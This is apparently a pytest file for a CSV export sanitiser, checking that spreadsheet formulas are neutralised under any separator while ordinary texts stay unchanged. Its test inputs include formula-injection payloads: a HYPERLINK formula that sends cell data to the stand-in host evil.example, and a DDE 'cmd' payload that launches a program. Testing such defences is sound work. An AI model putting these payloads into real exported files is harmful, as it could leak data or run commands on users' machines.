"""No cell of a table of ours is a formula, whichever separator a spreadsheet takes; ordinary texts
stay as they are.
"""

import csv
import io
import re

import pandas as pd
import pytest

from dpmf_core.runs.spreadsheets import harmless, harmless_row
from pages.kit.safe_text import to_csv

FORMULA = re.compile(r"[\s\"\ufeff\u200b]*[=+\-@＝＋－＠](?=.*[^\d.,%\s;:|eE+\"-])")


def cells(text: str, separator: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]


@pytest.mark.parametrize(
    "before",
    ["", "x;", "x\t", "x|", "x; ", 'x;"', "x\n", "x\r\n", "x,", "\ufeff", " ", "x；", "1;", "-1;"],
)
@pytest.mark.parametrize(
    "lure",
    ['=HYPERLINK("http://evil.example/?"&A1;"more")', "=1+cmd|' /C calc'!A0", "+A1", "-2+A1",
     "@SUM(A1)", "= HYPERLINK(A1)", "＝A1", "=-A1"],
)  # fmt: skip
def test_a_formula_is_none_wherever_it_stands(before: str, lure: str) -> None:
    text = to_csv(pd.DataFrame({f"{before}{lure}": [f"{before}{lure}"], "next": ["plain"]}))
    for separator in ",;\t|":
        assert not [cell for cell in cells(text, separator) if FORMULA.match(cell)], text


@pytest.mark.parametrize(
    "text",
    ["Live and Let Die (1973)", "Rocky II - the second", "low-rank", "a, b; c", "-", "--", "-2",
     "ε = 2.00 (δ = 1e-05, per user, add/remove, exact)", "+3.5 %", "-1e-05", "-1,5", "1; -2; -3",
     "from -5 to +3", "me@example.org", "C++ & C", "a -> b", "rank=4, epsilon=0.5", "it's", "",
     "50% - 60%", "2026-11-22 10:00", "Grüße, 😀"],
)  # fmt: skip
def test_ordinary_texts_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


def test_what_is_no_text_stays_and_a_row_is_marked_in_names_and_cells() -> None:
    row = {"=a": "x;=b", "n": -1.5, "none": None, "flag": True}
    assert harmless_row(row) == {"'=a": "x;'=b", "n": -1.5, "none": None, "flag": True}
    assert harmless(harmless("x;=b")) == harmless("x;=b")
